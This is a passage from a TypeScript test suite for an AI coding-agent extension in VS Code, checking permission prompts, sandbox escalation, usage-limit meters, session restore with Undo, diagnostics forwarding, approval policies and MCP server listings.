  assert.equal(vscode.documentText(second.args[0] as Stub.Uri), "");
  assert.equal(vscode.documentText(second.args[1] as Stub.Uri), "brand new\n");
  await view.send({ type: "permission", id: card.id, decision: "allow" });
  await sent;
  assert.equal(fs.readFileSync(path.join(fake!.workspace, "hello.txt"), "utf8"), "first line\nhello patch\nlast line\n");
  assert.equal(fs.readFileSync(path.join(fake!.workspace, "docs/new.txt"), "utf8"), "brand new\n");
  assert.equal(fs.existsSync(path.join(fake!.workspace, "old.txt")), false);
  assert.deepEqual([...find(chat.items, "end")[0].changed].sort(), ["docs/new.txt", "hello.txt", "old.txt"]);
});

test("exec_command: the card says it runs outside the sandbox and why; its output streams into the card while it runs", async () => {
  const cmd = "for i in 1 2 3; do echo tick-$i; sleep 0.4; done";
  const { chat } = await activate([
    { calls: [{ id: "x1", name: "exec_command", arguments: { cmd, sandbox_permissions: "require_escalated", justification: "needs to tick outside", yield_time_ms: 5000 } }] },
    { text: "Ticked." },
  ]);
  await loginWithChatGPT();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const sent = view.send({ type: "send", text: "tick" });
  await until("a permission card", () => find(chat.items, "permission").some((p) => p.state === "pending"));
  const card = find(chat.items, "permission")[0];
  assert.equal(card.command, cmd);
  assert.equal(card.sandboxed, false);
  assert.equal(card.justification, "needs to tick outside");
  await view.send({ type: "permission", id: card.id, decision: "allow" });
  let seen: { output?: string; status: string } | undefined;
  await until("tick-1 in the running card", () => {
    const t = find(chat.items, "tool")[0];
    if (t && /tick-1/.test(t.output ?? "")) seen = { output: t.output, status: t.status };
    return !!seen;
  });
  assert.equal(seen!.status, "running");
  assert.doesNotMatch(seen!.output ?? "", /tick-3/);
  // The view was told while it ran.
  assert.ok(view.posted.some((m) => m.item?.kind === "tool" && m.item.status === "running" && /tick-1/.test(m.item.output ?? "")), "the view got the running output");
  await sent;
  const tool = find(chat.items, "tool")[0];
  assert.equal(tool.status, "ok");
  assert.match(tool.output ?? "", /tick-1\ntick-2\ntick-3/);
});

test("plan limits: the status bar names each window with its use", async () => {
  await activate([{ text: "Hi." }], new vscode.Memento(), ["--rate-limits"]);
  await loginWithChatGPT();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "hello" });
  await until("the limits in the status bar", () => /5h 12% · weekly 40%/.test(status()));
  assert.match(vscode.shown.statusItems[0].tooltip ?? "", /5h 12% used, resets /);
});

test("the panel's meters: the context against the window after a turn, and the plan's windows", async () => {
  await activate([{ text: "Hi." }], new vscode.Memento(), ["--rate-limits"]);
  await loginWithChatGPT();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "hello" });
  const lastInput = () => view.posted.filter((m) => m.type === "input" || m.type === "reset").pop().input;
  await until("the plan's windows in the panel", () => (lastInput().limits ?? []).length === 2);
  const input = lastInput();
  assert.deepEqual(
    input.limits.map((w: { name: string; usedPercent: number }) => [w.name, w.usedPercent]),
    [["5h", 12], ["weekly", 40]],
  );
  assert.ok(input.limits[0].resets, "a window says when it resets");
  // The context gauge: what chat's usage said (§15.6).
  assert.ok(input.context, JSON.stringify(input));
  assert.ok(input.context.tokens > 0 && input.context.window >= input.context.tokens, JSON.stringify(input.context));
  // New: a new conversation has no size yet.
  await view.send({ type: "new" });
  assert.equal(lastInput().context, undefined);
});

test("a plan window 90% used is warned of before the turn, once until it resets", async () => {
  const resetsAt = new Date(Date.now() + 3_600_000).toISOString().replace(/\.\d+Z$/, "Z");
  const { chat } = await activate([{ text: "One." }, { text: "Two." }], new vscode.Memento(), [], (f) =>
    fs.writeFileSync(
      path.join(f.home, "limits.json"),
      JSON.stringify({ planType: "plus", windows: [{ name: "5h", windowMinutes: 300, usedPercent: 93.4, resetsAt }, { name: "weekly", windowMinutes: 10080, usedPercent: 50 }] }),
    ),
  );
  await loginWithKey();
  await until("the stored limits", () => (chat.input().limits ?? []).length === 2);
  await chat.send("first");
  const notices = find(chat.items, "notice");
  assert.equal(notices.length, 1, JSON.stringify(chat.items));
  assert.equal(notices[0].warning, true);
  assert.match(notices[0].text, /5h window is 93% used \(it resets .+\): this turn may stop at the limit/);
  assert.deepEqual(kinds(chat.items).slice(0, 2), ["notice", "user"], "the warning comes before the turn");
  await chat.send("second");
  assert.equal(find(chat.items, "notice").length, 1, "warned once");
});

/**
 * What the panel shows of items, in the order it shows them (a permission
 * card goes just before its call's card, as the view places it), without ids
 * and what only a live turn knows (its step count, streaming).
 */
function shape(items: Item[]): unknown[] {
  const ordered: Item[] = [];
  for (const i of items) {
    const call = i.kind === "permission" && i.callId ? ordered.findIndex((x) => x.kind === "tool" && x.callId === i.callId) : -1;
    if (call >= 0) ordered.splice(call, 0, i);
    else ordered.push(i);
  }
  return ordered.map((i) => {
    switch (i.kind) {
      case "user":
        return { kind: i.kind, text: i.text, chips: i.chips ?? [] };
      case "permission":
        return { kind: i.kind, tool: i.tool, state: i.state, reason: i.reason, path: i.path, callId: i.callId };
      case "tool":
        return { kind: i.kind, name: i.name, status: i.status, summary: i.summary, exitCode: i.exitCode, changed: i.changed, sandboxed: i.sandboxed };
      case "end":
        return { kind: i.kind, stopReason: i.stopReason, changed: i.changed, canUndo: i.canUndo, undone: !!i.undone };
      case "error":
        return { kind: i.kind };
      default:
        return { kind: i.kind, text: i.text };
    }
  });
}

test("a reopened session after a restart is shown as it was live: attachments, decisions with reasons, changed files, Undo", async (t) => {
  const { host, chat } = await activate([
    {
      text: "First the config.",
      calls: [{ id: "w1", name: "write", arguments: { path: "config.toml", content: "x=1\n" } }],
    },
    { text: "Then main.go.", calls: [{ id: "e1", name: "edit", arguments: { path: "main.go", oldString: "func main() {}", newString: "func main() { println(1) }" } }] },
    { text: "Done." },
  ]);
  if (!(await host.connection()).has("undo")) return skip(t, "this deckhand does not declare the undo capability of protocol 1.1");
  fs.writeFileSync(path.join(fake!.workspace, "main.go"), "package main\n\nfunc main() {}\n");
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  chat.addChip({ id: "s:main.go:3-3", label: "main.go:3", attachment: { type: "selection", path: "main.go", range: { startLine: 3, endLine: 3 }, text: "func main() {}" } });
  const answer = async (decision: string, reason?: string) => {
    await until("a permission card", () => find(chat.items, "permission").some((p) => p.state === "pending"));
    const p = find(chat.items, "permission").find((x) => x.state === "pending")!;
    await view.send({ type: "permission", id: p.id, decision, reason });
  };
  const sent = view.send({ type: "send", text: "tidy this" });
  await answer("deny", "not the config, please");
  await answer("allow");
  await sent;
  const live = shape(chat.items);
  const gauge = chat.input().context;
  assert.ok(gauge && gauge.tokens > 0, "the gauge after the turn");
  assert.deepEqual(
    live.filter((x: any) => x.kind === "permission").map((x: any) => [x.tool, x.state, x.reason]),
    [["write", "deny", "not the config, please"], ["edit", "allow", undefined]],
  );
  // deckhand restarts: what the panel shows comes from the session's file alone.
  await (await host.connection()).close();
  await chat.load(chat.sessionId!);
  assert.deepEqual(shape(chat.items), live);
  assert.deepEqual(chat.input().context, gauge, "the gauge of a reopened session, at once");
  const end = find(chat.items, "end")[0];
  assert.deepEqual(end.changed, ["main.go"]);
  assert.equal(end.canUndo, true);
  // Undo from the reopened turn puts the file back.
  await view.send({ type: "undo", turnId: end.turnId });
  assert.equal(fs.readFileSync(path.join(fake!.workspace, "main.go"), "utf8"), "package main\n\nfunc main() {}\n");
  await chat.load(chat.sessionId!);
  const again = find(chat.items, "end")[0];
  assert.equal(again.canUndo, false, "an undone turn offers no Undo");
  assert.ok(again.undone);
});

test("diagnostics from the editor: the error an edit introduced reaches the model's next request, an old warning does not (protocol 1.2 §20)", async (t) => {
  const { host, chat } = await activate([
    { calls: [{ id: "e1", name: "edit", arguments: { path: "main.go", oldString: "func main() {}", newString: "func main() { y }" } }] },
    { text: "Edited." },
  ]);
  if (!(await host.connection()).has("diagnostics")) return skip(t, "this deckhand does not declare the diagnostics capability of protocol 1.2");
  const file = path.join(fake!.workspace, "main.go");
  fs.writeFileSync(file, "package main\n\nfunc main() {}\n");
  const uri = vscode.Uri.file(file);
  const at = (line: number) => ({ start: { line, character: 0 }, end: { line, character: 5 } });
  const old = { severity: vscode.DiagnosticSeverity.Warning, message: "exported function main should have comment", source: "golint", range: at(2) };
  const hint = { severity: vscode.DiagnosticSeverity.Hint, message: "HINT-MARKER", range: at(0) };
  // A language server of the test: it has an old warning, and finds an
  // error once the file says y, a moment after the change.
  vscode.setDiagnostics(uri, [old, hint]);
  const watcher = fs.watch(file, () =>
    setTimeout(() => {
      const text = fs.readFileSync(file, "utf8");
      vscode.setDiagnostics(uri, text.includes("{ y }") ? [old, hint, { severity: vscode.DiagnosticSeverity.Error, message: "undefined: y", source: "compiler", range: at(2) }] : [old, hint]);
    }, 150),
  );
  try {
    await loginWithKey();
    const view = vscode.openView("deckhand.chatView");
    await view.send({ type: "ready" });
    const sent = view.send({ type: "send", text: "use y" });
    await until("a permission card", () => find(chat.items, "permission").some((p) => p.state === "pending"));
    await view.send({ type: "permission", id: find(chat.items, "permission")[0].id, decision: "allow" });
    await sent;
  } finally {
    watcher.close();
  }
  const bodies = await fake!.modelRequests();
  assert.equal(bodies.length, 2);
  const told = JSON.stringify(bodies[1].input);
  assert.match(told, /main\.go:3: error: undefined: y \(compiler\)/);
  assert.ok(!told.includes("should have comment"), "an old problem was told as new");
  assert.ok(!told.includes("HINT-MARKER"), "a hint was told");
  // The panel says what the model was told.
  const notice = find(chat.items, "notice").find((n) => n.text.includes("undefined: y"));
  assert.ok(notice, JSON.stringify(chat.items));
  assert.match(notice.text, /main\.go:3: error: undefined: y \(compiler\)/);
});

test("the approval policy chosen in the panel goes with the turn: under never, a command without a sandbox is refused without asking (protocol 1.2 §17)", async (t) => {
  const { host, chat } = await activate([{ calls: [{ id: "b1", name: "bash", arguments: { command: "echo hi" } }] }, { text: "Refused then." }]);
  const sandbox = (await host.connection()).initialized.capabilities?.sandbox;
  if (!sandbox) return skip(t, "this deckhand does not declare the sandbox capability of protocol 1.2");
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const lastInput = () => view.posted.filter((m) => m.type === "input" || m.type === "reset").pop().input;
  assert.equal(lastInput().policy?.value, "on-request", "deckhand's default until the user picks one");
  assert.equal(lastInput().policy?.sandbox, sandbox.kind);
  await view.send({ type: "policy", policy: "never" });
  assert.equal(lastInput().policy.value, "never");
  await view.send({ type: "policy", policy: "sometimes" }); // not a policy: nothing changes
  assert.equal(lastInput().policy.value, "never");
  // Whatever asks is denied, so that a turn that asks still ends.
  let asked = 0;
  const answering = setInterval(() => {
    for (const p of find(chat.items, "permission").filter((x) => x.state === "pending")) {
      asked++;
      view.send({ type: "permission", id: p.id, decision: "deny" });
    }
  }, 20);
  try {
    await view.send({ type: "send", text: "say hi" });
  } finally {
    clearInterval(answering);
  }
  assert.equal(asked, 0, "the command asked");
  const bodies = await fake!.modelRequests();
  if (sandbox.kind === "none") assert.match(JSON.stringify(bodies[1].input), /approval policy is \\"never\\"/);
});

test("MCP servers: the quick pick lists each server with its state and tools, following mcp/status (protocol 1.2 §18)", async (t) => {
  const { host } = await activate([{ text: "Hi." }], new vscode.Memento(), [], (f) =>
    fs.writeFileSync(
      path.join(f.home, "config.json"),
      JSON.stringify({ mcpServers: { testmcp: { command: process.execPath, args: [path.join(__dirname, "..", "..", "test", "support", "mcp-server.js")] }, broken: { command: "/nonexistent/mcp-server" } } }),
    ),
  );
  if (!(await host.connection()).has("mcp")) return skip(t, "this deckhand does not declare the mcp capability of protocol 1.2");
  await loginWithKey();
  const picks: { items: { label: string; description?: string; detail?: string }[]; hide(): void }[] = [];
  vscode.ui.createQuickPick = (p) => picks.push(p);
  // Before any message: the servers a conversation would start.
  const first = vscode.commands.executeCommand("deckhand.mcpServers");
  await until("the servers listed", () => (picks[0]?.items.length ?? 0) === 2);
  assert.deepEqual(picks[0].items.map((i) => i.label), ["$(circle-outline) broken", "$(circle-outline) testmcp"]);
  assert.match(picks[0].items[1].description ?? "", /not started yet · 0 tools · stdio, from deckhand's config/);
  // A message starts them: the open pick follows their state.
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "hello" });
  await until("testmcp ready in the open pick", () => picks[0].items.some((i) => i.label === "$(pass-filled) testmcp"));
  const ready = picks[0].items.find((i) => i.label.endsWith("testmcp"))!;
  assert.match(ready.description ?? "", /ready · 2 tools/);
  assert.equal(ready.detail, "add, echo");
  await until("broken failed", () => picks[0].items.some((i) => i.label === "$(error) broken"));
  assert.match(picks[0].items.find((i) => i.label.endsWith("broken"))!.detail ?? "", /^Failed: /);
  picks[0].hide();
  await first;
});

test("the context gauge moves during a turn (chat/usage), before its result", async () => {
  const { chat } = await activate([
    { text: "Looking.", calls: [{ id: "l1", name: "list", arguments: {} }] },
    { text: "Seen." },
  ]);
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "look" });
  const midTurn = view.posted.filter((m) => m.type === "input" && m.input.running && m.input.context);
  assert.ok(midTurn.length > 0, "no gauge while the turn ran");
  assert.ok(midTurn[0].input.context.window > 0);
  assert.deepEqual(chat.input().context !== undefined, true);
});
